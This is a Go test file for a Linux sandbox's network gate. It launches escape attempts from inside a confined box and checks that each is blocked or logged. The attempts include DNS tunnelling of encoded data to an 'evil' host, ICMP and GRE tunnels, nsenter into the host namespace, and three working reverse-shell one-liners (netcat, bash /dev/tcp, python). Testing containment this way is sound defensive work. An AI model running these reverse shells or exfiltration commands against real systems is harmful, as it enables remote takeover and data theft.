//go:build linux

package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// attemptsByDNS have a name server do the talking.
func (w *netWorld) attemptsByDNS(at aims) []attempt {
	tunnel := "6120736563726574." + at.evil // "a secret"
	ask := func(name, proto string, port int, argv ...string) attempt {
		return attempt{name: name, argv: w.inside(argv...), record: want{proto: proto, addr: at.four, port: port, rule: "-"}}
	}
	lookup := attempt{name: "a tunnel through the gate's own name server", argv: w.inside("ask", "udp", "198.18.0.1:53", tunnel, "TXT"), mute: true, tame: true,
		record: want{host: tunnel}}
	return []attempt{
		ask("another name server", "udp", 53, "ask", "udp", at.four+":53", tunnel, "TXT"),
		ask("another name server over TCP", "tcp", 53, "ask", "tcp", at.four+":53", tunnel, "TXT"),
		ask("another name server over TLS", "tcp", 853, "ask", "tcp-tls", at.four+":853", tunnel, "TXT"),
		ask("DNS over HTTPS by address", "tcp", 2004, "doh", "https://"+at.four+":2004/dns-query", at.evil),
		{name: "DNS over HTTPS by name", argv: w.inside("doh", "https://"+at.evil+":2005/dns-query", tunnel), record: want{proto: "tcp", host: at.evil, port: 2005, rule: "-"}},
		{name: "DNS over HTTPS on an allowed host's address", argv: w.inside("front", w.Server4+":443", at.evil, at.evil), record: want{proto: "tcp", addr: w.Server4, port: 443}, tame: true},
		lookup,
	}
}

// attemptsBelow go below TCP and UDP.
func (w *netWorld) attemptsBelow(at aims) []attempt {
	raw := func(name string, proto int, addr, recorded string) attempt {
		return attempt{name: name, argv: w.inside("raw", fmt.Sprint(proto), addr), rights: true, record: want{proto: recorded, addr: addr}}
	}
	// Packets that claim to come from elsewhere get no answer that their sender
	// could see. The gate may take them for what is not worth a record: no
	// process in the box can use such a connection.
	forged := attempt{name: "a forged source", argv: w.inside("forged", "198.18.7.7", at.four, "80"), mute: true, rights: true}
	frame := attempt{name: "a frame below the IP stack", argv: w.inside("frame", at.four, "81"), mute: true, rights: true, tame: true,
		record: want{proto: "tcp", addr: at.four, port: 81}}
	return []attempt{
		raw("an ICMP tunnel", unix.IPPROTO_ICMP, at.four, "icmp"),
		raw("an ICMPv6 tunnel", unix.IPPROTO_ICMPV6, at.six, "icmp"),
		raw("GRE", unix.IPPROTO_GRE, at.four, "ip-47"),
		raw("SCTP", unix.IPPROTO_SCTP, at.four, "ip-132"),
		raw("IPv4 in IPv4", unix.IPPROTO_IPIP, at.four, "ip-4"),
		raw("a protocol without a name", 253, at.four, "ip-253"),
		raw("a protocol without a name by IPv6", 253, at.six, "ip-253"),
		forged, frame,
	}
}

// attemptsToCallHome are reverse shells.
func (w *netWorld) attemptsToCallHome(at aims) []attempt {
	to := func(port int) want { return want{proto: "tcp", addr: at.four, port: port, rule: "-"} }
	return []attempt{
		{name: "a reverse shell by netcat", argv: sh(`d=$(mktemp -d); mkfifo $d/f; sh <$d/f 2>&1 | nc.openbsd -w 5 $1 4444 >$d/f; nc.openbsd -w 5 $1 4444 </dev/null`, at.four), record: to(4444)},
		{name: "a reverse shell by bash", argv: []string{"bash", "-c", `exec 3<>/dev/tcp/$1/4445 || exit 1; sh <&3 >&3`, "bash", at.four}, record: to(4445)},
		{name: "a reverse shell by python", argv: []string{"/usr/bin/python3", "-c", `import socket,subprocess,sys
s = socket.socket(); s.connect((sys.argv[1], 4446)); subprocess.call(["sh"], stdin=s, stdout=s)`, at.four}, record: to(4446)},
	}
}

// TestPromise8NoHostProcess tries to speak to processes of the host by other
// ways than the network. None of it can be on record: a box has no abstract
// socket and no vsock of the host's that a gate could stand before.
func TestPromise8NoHostProcess(t *testing.T) {
	t.Parallel()
	w := newNetWorld(t)
	box := w.makeBox("prisoner", "--allow", w.name("web"))
	abstract := "fbtest-" + filepath.Base(filepath.Dir(w.home))
	w.onHost(t, func() { w.listens("unix", "@"+abstract) })
	path := filepath.Join(w.root, "service.sock")
	w.listens("unix", path)
	w.ok(os.Chmod(path, 0o777))
	w.must("new", "--name", "free", "--net", "host")
	w.works("free", w.inside("abstract", abstract)...)
	for name, argv := range map[string][]string{
		"abstract unix socket": w.inside("abstract", abstract),
		"unix socket":          {"/usr/bin/python3", "-c", "import socket,sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])", path},
		"daemon's socket":      {"/usr/bin/python3", "-c", "import socket,sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])", filepath.Join(w.home, "forkbox.sock")},
		"vsock of the host":    w.inside("vsock", "2", "1024"),
		"vsock loopback":       w.inside("vsock", "1", "1024"),
	} {
		t.Run(name, func(t *testing.T) {
			if out := w.as(t).failsIn(box, argv...); strings.Contains(out, "connected") {
				t.Errorf("it is connected: %s", out)
			}
		})
	}
	t.Run("no vsock at all", w.as(t).noVsock(box))
}

// noVsock: sockets of that kind do not belong to a network namespace on most
// kernels. Where the host has them a box may not even make one.
func (w *netWorld) noVsock(box string) func(*testing.T) {
	return func(t *testing.T) {
		fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
		if err != nil {
			t.Logf("the host has no vsock: %v", err)
		} else {
			unix.Close(fd)
		}
		out := w.as(t).failsIn(box, "/usr/bin/python3", "-c", "import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print('made')")
		if strings.Contains(out, "made") {
			t.Errorf("it can make one: %s", out)
		}
	}
}

// listens accepts everything, and counts nothing: who gets so far has won.
func (w *netWorld) listens(network, address string) {
	w.Helper()
	l, err := net.Listen(network, address)
	w.ok(err)
	w.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
}

// TestPromise8NoOtherWay: the box's device is the only one, whatever root in the
// box does to it: addresses, routes, namespaces.
func TestPromise8NoOtherWay(t *testing.T) {
	t.Parallel()
	w := newNetWorld(t)
	box := w.makeBox("prisoner", "--allow", w.name("web"))
	if out := w.works(box, w.inside("devices")...); !strings.HasPrefix(out, "ok fb0 lo ") && !strings.HasPrefix(out, "ok lo fb0 ") {
		t.Errorf("its devices are %s", out)
	}
	for name, script := range map[string]string{
		"another address":     `ip addr add 192.0.2.10/32 dev fb0 && curl -sS --max-time 9 --interface 192.0.2.10 http://$1:81/`,
		"another route":       `ip route replace $1/32 via 192.0.2.1 dev fb0 onlink && curl -sS --max-time 9 http://$1:82/`,
		"another namespace":   `unshare -Urn sh -c "ip link set lo up; curl -sS --max-time 9 http://$1:83/"`,
		"the host's":          `nsenter --net=/proc/1/ns/net curl -sS --max-time 9 http://$1:84/`,
		"a device of its own": `ip link add fbx type veth peer name fby && ip addr add 192.0.2.10/24 dev fbx && ip link set fbx up && ip route replace $1/32 via 192.0.2.1 dev fbx && curl -sS --max-time 2 http://$1:85/`,
		"a copy of a device":  `ip link add link fb0 name fbm type macvlan && ip link set fbm up && curl -sS --max-time 9 --interface fbm http://$1:86/`,
		"a proxy at the gate": `curl -sS --max-time 9 --proxy socks5://198.18.0.1:1080 http://$1:87/`,
	} {
		t.Run(name, func(t *testing.T) {
			w := w.as(t)
			w.failsIn(box, sh(script, w.Canary4)...)
			w.silent(w.Canary4)
		})
	}
}
